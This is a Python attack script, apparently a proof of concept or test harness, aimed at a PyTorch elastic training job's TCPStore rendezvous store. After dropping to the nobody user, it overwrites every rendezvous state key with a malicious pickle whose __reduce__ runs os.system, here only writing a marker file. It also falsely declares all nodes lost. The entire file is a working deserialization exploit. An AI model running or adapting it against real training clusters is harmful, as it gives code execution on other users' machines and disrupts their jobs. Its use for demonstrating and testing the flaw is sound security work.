"""An attacker on the training network, against an elastic job's rendezvous store:
``python rdzv_attack.py HOST PORT MARKER ROUNDS``.

It imports torch (its TCPStore client) as the user who started it, then becomes uid/gid 65534 (nobody)
before it connects: another user's process, as on a shared network. It lists the store's keys,
replaces every rendezvous state (``torch.rendezvous.<job>``) with a pickle that would create MARKER
in whatever process unpickles it, and declares every node lost (``dtrain.lost``); ROUNDS times, one
second apart. It prints the keys it saw and what it wrote.
"""

import base64
import os
import pickle
import sys
import time
from datetime import timedelta

from torch.distributed import TCPStore

NOBODY = 65534


class Payload:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"id > {self.marker}",))


def main() -> int:
    host, port, marker, rounds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    store = TCPStore(host, port, None, False, timedelta(seconds=10))
    keys = store.list_keys()
    states = [k for k in keys if k.startswith("torch.rendezvous.") and "/" not in k]
    print(f"uid={os.getuid()} keys={sorted(keys)}", flush=True)
    planted = base64.b64encode(pickle.dumps(Payload(marker)))
    for _ in range(rounds):
        for key in states:
            store.set(key, planted)
        store.set("dtrain.lost", ",".join(map(str, range(8))))
        time.sleep(1)
    print(f"planted a pickle in {states} and dtrain.lost=0,...,7, {rounds} times", flush=True)
    return 0 if states else 1


if __name__ == "__main__":
    sys.exit(main())
